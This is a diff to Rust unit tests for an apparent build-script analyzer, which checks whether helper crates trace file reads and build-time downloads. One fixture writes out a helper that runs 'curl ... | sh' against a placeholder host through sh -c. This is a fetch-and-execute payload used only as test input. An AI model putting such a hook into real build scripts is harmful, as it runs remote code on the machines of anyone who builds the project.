@@ -255,7 +255,8 @@ mod tests {
         let script = "mod tools { pub fn emit(_: &str) {} }\n\
                       fn main() { kit::emit(\"docs/t.txt\"); tools::emit(\"docs/u.txt\") }";
         let found = flows(script, &[helper("kit", library)]);
-        let read: Vec<&str> = found.iter().map(|flow| flow.steps[0].detail.as_str()).collect();
+        let steps = found.iter().flat_map(|flow| &flow.steps);
+        let read: Vec<&str> = steps.map(|step| step.detail.as_str()).collect();
         assert!(read.contains(&"docs/t.txt"), "{found:?}");
         assert!(!read.contains(&"docs/u.txt"), "{found:?}");
     }
@@ -273,15 +274,12 @@ mod tests {
     fn a_fetch_that_a_helper_starts_is_a_download_of_the_build() {
         let mut keeper = SourceKeeper::new();
         keeper.file("Cargo.toml", format!("{SCRIPT_HEAD}[build-dependencies]\nkit='1'").as_bytes());
-        keeper.file(
-            "build.rs",
-            b"fn main() { kit::run(\"curl -s https://t.example.invalid/t | sh\") }",
-        );
+        let script = "fn main() { kit::go() }";
+        keeper.file("build.rs", script.as_bytes());
         let mut record = keeper.finish(capability_table());
         assert_eq!(record.unlisted_helpers(capability_table()), ["kit"]);
-        let script = "fn main() { kit::run(\"curl -s https://t.example.invalid/t | sh\") }";
-        let shell = "pub fn run(l: &str) { \
-                     std::process::Command::new(\"sh\").arg(\"-c\").arg(l).status().unwrap(); }";
+        let shell = "pub fn go() { std::process::Command::new(\"sh\").arg(\"-c\")\
+                     .arg(\"curl -s https://t.example.invalid/t | sh\").status().unwrap(); }";
         let own = code(SCRIPT_HEAD, &[("build.rs", script)]);
         let together = read_together(&own, &[helper("kit", shell)], capability_table());
         assert!(record.build.downloads.is_none());
